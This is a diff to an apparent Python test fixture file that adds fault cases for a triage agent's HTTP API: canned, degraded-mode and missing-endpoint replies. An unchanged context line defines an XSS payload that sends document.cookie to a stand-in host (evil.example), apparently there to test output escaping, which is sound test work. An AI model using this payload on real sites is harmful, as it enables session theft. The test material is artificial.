@@ -8,6 +8,8 @@ _FALLBACK = (
 )
 _SORRY = "I apologize, but I am unable to process your request right now. Please try again later."
 _ERROR = "Error executing triage agent: WebSocket manager not available for user test-user"
+_DEGRADED = "Degraded mode: the triage agent is not available at the moment."
+_CANNED = "Most of your cloud bill is compute, so moving idle machines to smaller sizes pays most."
 _SCRIPT = "<script>fetch('//evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>"
 _STORED = "GP-605 GP-602"
 
@@ -75,4 +77,13 @@ FAULTS = (
             status=500, raw="Internal Server Error", content_type="text/plain", only=200))),
     ill("http-agents-empty", "the HTTP agents API succeeds without a text", "", "GP-507", "",
         "c r", ("http.agents.execute", Reply(merge={"response": ""}, only=200))),
+    ill("http-agents-canned", "the HTTP agents API has one good answer for every request", "F59",
+        "GP-507", "", "c r",
+        ("http.agents.execute", Reply(merge={"response": _CANNED}, only=200))),
+    ill("http-agents-degraded", "the HTTP agents API answers 200 in degraded mode", "F110",
+        "GP-507", "", "c r",
+        ("http.agents.execute", Reply(
+            merge={"status": "service_unavailable", "response": _DEGRADED}, only=200))),
+    ill("http-agents-missing", "the HTTP agents API is not mounted", "F39", "GP-507", "GP-207",
+        "c r", ("http.agents.execute", Reply(status=404, replace={"detail": "Not Found"}))),
 )  # fmt: skip
